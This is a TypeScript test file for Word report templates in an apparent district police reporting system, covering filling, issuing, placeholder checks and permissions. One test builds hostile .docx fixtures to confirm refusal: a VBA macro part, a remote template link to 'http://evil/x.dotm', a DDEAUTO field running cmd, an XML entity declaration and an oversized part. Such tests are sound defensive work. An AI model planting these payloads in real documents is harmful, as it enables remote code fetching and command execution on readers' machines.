import assert from 'node:assert/strict';
import { randomUUIDv7 } from 'node:crypto';
import test, { after } from 'node:test';

import { Document, Header, Packer, Paragraph } from 'docx';
import { strToU8, unzipSync, zipSync } from 'fflate';
import mammoth from 'mammoth';

import { isProblem } from '#basis/problem.ts';
import type { Person } from '#engine/rights/role.ts';
import { prepare } from '#jobs/prepare.ts';
import approveReport from '#operations/issuing/approve-report.ts';
import draftReport from '#operations/issuing/draft-report.ts';
import issueReport from '#operations/issuing/issue-report.ts';
import reportFile from '#operations/issuing/report-file.ts';
import sendReport from '#operations/issuing/send-report.ts';
import { personOfLogin } from '#operations/people/person-of.ts';
import { openHouse } from '#operations/stage.ts';
import addTemplate from '#operations/templates/add-template.ts';
import checkTemplate from '#operations/templates/check-template.ts';
import fillTemplate from '#operations/templates/fill-template.ts';
import listTemplates from '#operations/templates/list-templates.ts';
import removeTemplate from '#operations/templates/remove-template.ts';
import sampleTemplate from '#operations/templates/sample-template.ts';
import { testDatabase } from '../database.ts';

const database = await testDatabase();
await prepare(database, () => undefined);
const house = await openHouse(database);
after(() => house.close());
const leader = await getPerson('lanhdao.congan.phuocson');
const commune = await getPerson('congan.khamduc');
const review = { report: 'ten-year-review', unit: '511@0', from: '2013-08-01', to: '2023-07-11' };

test('the sample template is accepted, filled, and its numbers lead to their pages', async () => {
  const { bytes } = await house.perform(sampleTemplate, leader, {});
  const id = await added(bytes);
  const filled = await house.perform(fillTemplate, leader, { template: id, ...review });
  const { value: text } = await mammoth.extractRawText({ buffer: Buffer.from(filled.bytes) });
  assert.match(text, /CÔNG AN HUYỆN PHƯỚC SƠN/u);
  assert.match(text, /đã tổ chức hơn 1\.300 buổi tuyên truyền/u);
  assert.match(text, /Tổ chức 138 đợt phát động phong trào/u);
  assert.match(text, /Dữ liệu minh họa/u);
  assert.doesNotMatch(text, /[{}]/u);
  const { value: html } = await mammoth.convertToHtml({ buffer: Buffer.from(filled.bytes) });
  assert.match(html, /href="http:\/\/localhost:8080\/so-lieu\/outreach-sessions\?/u);
});

test('an issued report fills a template as it was signed, and a figure that it does not have is refused', async () => {
  const template = await added((await house.perform(sampleTemplate, leader, {})).bytes);
  const report = randomUUIDv7();
  await house.perform(draftReport, leader, { id: report, ...review, joint: false });
  await house.perform(sendReport, leader, { report });
  await house.perform(approveReport, leader, { report });
  await house.perform(issueReport, leader, {
    report,
    'police-signs': 'deputy',
    'police-signer': 'Người ký minh họa'
  });
  const { bytes } = await house.perform(reportFile, leader, { report, template });
  const { value: text } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) });
  assert.match(text, /Số: \d+\/BC-CAH/u);
  assert.match(text, /KT\. TRƯỞNG CÔNG AN HUYỆN/u);
  assert.match(text, /Người ký minh họa/u);
  assert.match(text, /đã tổ chức hơn 1\.000 buổi tuyên truyền/u);
  const asksMore = await added(await word(['{chi_tieu:leaflets}']));
  await assert.rejects(house.perform(reportFile, leader, { report, template: asksMore }), {
    code: 'template-asks-more'
  });
});

test('a wrong placeholder is named with its place and with what was probably meant', async () => {
  const bytes = await word([
    'Số liệu: {chi_tieu:outreach-session}',
    'Kính gửi {kinh_guii}',
    'Nội dung: {noi_dung}',
    'Thiếu {don_vi'
  ]);
  const { faults } = await house.perform(checkTemplate, leader, { file: base64(bytes) });
  assert.deepEqual(
    faults.map(({ placeholder, part, paragraph, fault, meant }) => [
      placeholder,
      part,
      paragraph,
      fault,
      meant
    ]),
    [
      ['don_vi_', 'header', 1, 'unknown', 'don_vi'],
      ['chi_tieu:outreach-session', 'document', 1, 'no-such-indicator', 'outreach-sessions'],
      ['kinh_guii', 'document', 2, 'unknown', 'kinh_gui'],
      ['noi_dung', 'document', 3, 'not-alone', undefined],
      ['don_vi', 'document', 4, 'unclosed', undefined]
    ].toSorted((a, b) => (a[1] === b[1] ? 0 : a[1] === 'document' ? -1 : 1))
  );
  await refusal(
    house.perform(addTemplate, leader, { id: randomUUIDv7(), name: 'Mẫu sai', file: base64(bytes) }),
    'template-faulty'
  );
});

test('a template that carries macros, fetches things or swells is refused', async () => {
  const good = await word(['{don_vi}']);
  const rels =
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>';
  const field = '<w:document><w:p><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:p></w:document>';
  const bad = [
    withPart(good, 'word/vbaProject.bin', 'x'),
    withPart(good, 'word/_rels/settings.xml.rels', rels),
    withPart(good, 'word/document.xml', field),
    withPart(good, 'word/document.xml', `<!DOCTYPE x [<!ENTITY a "b">]>${field}`),
    withPart(good, 'word/big.xml', ' '.repeat(50_000_000)),
    strToU8('not a zip at all'),
    zipSync({ 'a.txt': strToU8('x') })
  ];
  for (const bytes of bad) {
    await refusal(house.perform(checkTemplate, leader, { file: base64(bytes) }), 'template-refused');
  }
});

test('nothing that stands in the figures or in a name is read as a placeholder or as markup', async () => {
  const id = await added(await word(['{trich_yeu} <w:p> & {so:launch-drives}']));
  const { bytes } = await house.perform(fillTemplate, leader, { template: id, ...review });
  const { value: text } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) });
  assert.match(text, /<w:p> & 138/u);
});

test('an office removes its own templates, and nobody another’s', async () => {
  const id = await added(await word(['{don_vi}']));
  assert.ok(!(await house.perform(listTemplates, commune, {})).some((one) => one.id === id));
  await refusal(house.perform(removeTemplate, commune, { template: id }), 'no-such-template');
  await house.perform(removeTemplate, leader, { template: id });
  assert.ok(!(await house.perform(listTemplates, leader, {})).some((one) => one.id === id));
});

async function added(bytes: Uint8Array): Promise<string> {
  const id = randomUUIDv7();
  await house.perform(addTemplate, leader, { id, name: 'Mẫu của huyện', file: base64(bytes) });
  assert.ok((await house.perform(listTemplates, leader, {})).some((one) => one.id === id));
  return id;
}

/** A Word file with these paragraphs, and a misspelt placeholder in its header when it has many. */
async function word(paragraphs: readonly string[]): Promise<Uint8Array> {
  const headers =
    paragraphs.length > 3
      ? { headers: { default: new Header({ children: [new Paragraph('{don_vi_}')] }) } }
      : {};
  const file = new Document({
    sections: [{ ...headers, children: paragraphs.map((text) => new Paragraph(text)) }]
  });
  return Packer.pack(file, 'uint8array');
}

function withPart(bytes: Uint8Array, name: string, text: string): Uint8Array {
  return zipSync({ ...unzipSync(bytes), [name]: strToU8(text) });
}

function base64(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('base64');
}

async function refusal(work: Promise<unknown>, code: string): Promise<void> {
  const error: unknown = await work.then(
    () => assert.fail(`was not refused with ${code}`),
    (thrown: unknown) => thrown
  );
  assert.ok(isProblem(error), String(error));
  assert.equal(error.code, code);
}

async function getPerson(login: string): Promise<Person> {
  const person = await personOfLogin(database.owner, login);
  assert.ok(person, login);
  return person;
}
